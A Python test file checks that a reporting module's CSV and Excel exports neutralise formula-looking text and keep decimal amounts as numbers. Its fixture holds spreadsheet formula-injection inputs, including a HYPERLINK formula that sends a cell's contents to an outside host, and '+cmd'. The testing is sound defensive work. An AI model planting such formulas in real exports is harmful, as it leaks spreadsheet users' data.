"""CSV and Excel bytes: numeric amounts, formula-looking text neutralised."""

import csv
import io
from decimal import Decimal as D

import openpyxl
import pandas as pd

from monitor.reports import downloads as exports

FRAME = pd.DataFrame(
    {
        "text": ['=HYPERLINK("http://x?"&A1)', "@SUM(1)", "+cmd", "\t=1", "-x", "Bodø"],
        "amount": [D("-100.00"), D("1.50"), D("0.00"), None, D("2.25"), D("1234567.89")],
    }
)


def test_csv_neutralises_text_and_keeps_amounts():
    rows = list(csv.reader(io.StringIO(exports.to_csv(FRAME).decode("utf-8-sig"))))
    assert rows[0] == ["text", "amount"]
    assert [r[0][0] for r in rows[1:6]] == ["'"] * 5
    assert rows[6] == ["Bodø", "1234567.89"]
    assert rows[1][1] == "-100.00"  # a negative amount is a number, not a formula
    assert sum(D(r[1]) for r in rows[1:] if r[1]) == D("1234471.64")  # -100 + 1.50 + 0 + 2.25 + 1234567.89


def test_xlsx_amounts_are_number_cells():
    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(FRAME))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert values[0] == ["'" + FRAME["text"][0], -100]
    assert values[3] == ["'\t=1", None]
    assert all(isinstance(row[1], (int, float)) for row in values if row[1] is not None)
    assert sheet.cell(row=7, column=2).data_type == "n"
